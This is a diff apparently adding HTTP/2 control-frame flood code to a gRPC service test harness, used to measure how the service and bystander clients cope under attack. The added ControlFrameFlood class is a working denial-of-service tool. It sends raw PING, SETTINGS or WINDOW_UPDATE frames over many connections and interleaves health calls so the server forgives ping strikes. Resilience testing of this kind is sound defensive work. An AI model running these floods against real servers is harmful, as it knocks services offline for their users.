@@ -700,6 +700,173 @@ def rapid_reset(host: str, port: int, method_path: str = HEALTH_CHECK, seconds: 
 
 
 # --------------------------------------------------------------------------------------------
+# HTTP/2 control-frame floods
+
+
+def h2_frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
+    """One raw HTTP/2 frame."""
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream_id.to_bytes(4, "big") + payload
+
+
+CONTROL_FRAMES = {
+    # PING with 8 bytes of opaque data: the peer must answer each with a PING ACK.
+    "ping": h2_frame(6, 0, 0, b"\x00" * 8),
+    # An empty SETTINGS: the peer must acknowledge each.
+    "settings": h2_frame(4, 0, 0),
+    # A connection WINDOW_UPDATE of 1 byte: nothing to answer, but each is parsed and applied.
+    "window_update": h2_frame(8, 0, 0, (1).to_bytes(4, "big")),
+}
+
+
+class ControlFrameFlood:
+    """For `seconds`, on `connections` threads, each on a connection of its own from `source`: the
+    client preface, then `kind` frames (CONTROL_FRAMES) in batches of `batch` as fast as the peer
+    reads them; every `call_every` batches (0: never) a whole health Check call, whose answer a
+    grpc server counts as activity (it forgives ping strikes then). Whatever comes back is read
+    and dropped. A connection the peer closes is opened again. Counts in .counts (frames,
+    connections, closed_by_server, goaway)."""
+
+    def __init__(self, host: str, port: int, kind: str, seconds: float = 8.0, *, connections: int = 4,
+                 batch: int = 200, call_every: int = 10, source: str | None = None):
+        self.host, self.port, self.kind, self.seconds = host, port, kind, seconds
+        self.frames = CONTROL_FRAMES[kind] * batch
+        self.batch, self.call_every, self.source = batch, call_every, source
+        self._call_headers = grpc_headers(host, port, HEALTH_CHECK)
+        self.counts: collections.Counter = collections.Counter()
+        self._lock = threading.Lock()
+        self._stop = threading.Event()
+        self._threads = [threading.Thread(target=self._run, name=f"flood-{kind}", daemon=True)
+                         for _ in range(connections)]
+
+    def __enter__(self) -> "ControlFrameFlood":
+        for t in self._threads:
+            t.start()
+        return self
+
+    def __exit__(self, *exc) -> None:
+        self._stop.set()
+        for t in self._threads:
+            t.join(timeout=10)
+
+    def wait(self) -> collections.Counter:
+        for t in self._threads:
+            t.join(timeout=self.seconds + 10)
+        return self.counts
+
+    def _count(self, key: str, n: int = 1) -> None:
+        with self._lock:
+            self.counts[key] += n
+
+    def _run(self) -> None:
+        deadline = time.monotonic() + self.seconds
+        while not self._stop.is_set() and time.monotonic() < deadline:
+            try:
+                self._one_connection(deadline)
+            except OSError:
+                self._count("connect_errors")
+                time.sleep(0.05)
+
+    def _one_connection(self, deadline: float) -> None:
+        sock = _connect(self.host, self.port, self.source)
+        self._count("connections")
+        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+        conn.initiate_connection()
+        try:
+            sock.sendall(conn.data_to_send())
+            sock.setblocking(False)
+            pending, batches = bytearray(), 0
+            while not self._stop.is_set() and time.monotonic() < deadline:
+                if len(pending) < 1 << 16:
+                    batches += 1
+                    pending += self.frames
+                    self._count("frames", self.batch)
+                    if self.call_every and batches % self.call_every == 0:
+                        try:
+                            sid = conn.get_next_available_stream_id()
+                            conn.send_headers(sid, self._call_headers)
+                            conn.send_data(sid, EMPTY_MESSAGE, end_stream=True)
+                            self._count("calls")
+                        except h2.exceptions.ProtocolError:  # as many calls open as the peer allows
+                            self._count("calls_not_sent")
+                        pending += conn.data_to_send()
+                readable, writable = _select_rw(sock, bool(pending), 0.01 if len(pending) >= 1 << 16 else 0.0)
+                if writable and pending:
+                    try:
+                        n = sock.send(pending)
+                    except BlockingIOError:
+                        n = 0
+                    del pending[:n]
+                if readable:
+                    data = sock.recv(1 << 18)
+                    if not data:
+                        self._count("closed_by_server")
+                        return
+                    if self.call_every:
+                        try:
+                            for event in conn.receive_data(data):
+                                if isinstance(event, h2.events.ConnectionTerminated):
+                                    self._count("goaway")
+                                    self._count(f"goaway:{_error_name(event.error_code)}")
+                                    return
+                                if isinstance(event, h2.events.TrailersReceived):
+                                    self._count("answered")
+                            pending += conn.data_to_send()
+                        except h2.exceptions.ProtocolError:
+                            self._count("protocol_errors")
+                            return
+                    elif 7 in _frame_types(data):
+                        self._count("goaway")
+                        return
+        except (ConnectionError, OSError):
+            self._count("closed_by_server")
+        finally:
+            with contextlib.suppress(OSError):
+                sock.close()
+
+
+def control_frame_flood(host: str, port: int, kind: str, seconds: float = 8.0, **kw) -> ControlFrameFlood:
+    """`with control_frame_flood(host, port, "ping", seconds=8, source=...) as flood:` (see
+    ControlFrameFlood); flood.wait() returns the counts."""
+    return ControlFrameFlood(host, port, kind, seconds, **kw)
+
+
+def _attack_in_child(kind: str, args: tuple, kw: dict, results) -> None:
+    with globals()[kind](*args, **kw) as attack:
+        results.put(dict(attack.wait()))
+
+
+class InChildProcess:
+    """An attack class with .wait() (ControlFrameFlood, RapidReset), run in a process of its own,
+    so that the test process's clients (the bystander) do not share its interpreter lock: what
+    they measure is then the service's slowness, not the attacker's. .wait() returns its counts."""
+
+    def __init__(self, kind: str, *args, **kw):
+        import multiprocessing
+
+        context = multiprocessing.get_context("spawn")
+        self._results = context.Queue()
+        self._process = context.Process(target=_attack_in_child, args=(kind, args, kw, self._results),
+                                        name=f"attack-{kind}", daemon=True)
+        self._timeout = float(kw.get("seconds", args[3] if len(args) > 3 else 10.0)) + 30.0
+        self.counts: collections.Counter | None = None
+
+    def __enter__(self) -> "InChildProcess":
+        self._process.start()
+        return self
+
+    def __exit__(self, *exc) -> None:
+        self._process.join(timeout=self._timeout)
+        if self._process.is_alive():
+            self._process.kill()
+            self._process.join(timeout=5)
+
+    def wait(self) -> collections.Counter:
+        if self.counts is None:
+            self.counts = collections.Counter(self._results.get(timeout=self._timeout))
+        return self.counts
+
+
+# --------------------------------------------------------------------------------------------
 # One noisy customer
 
 
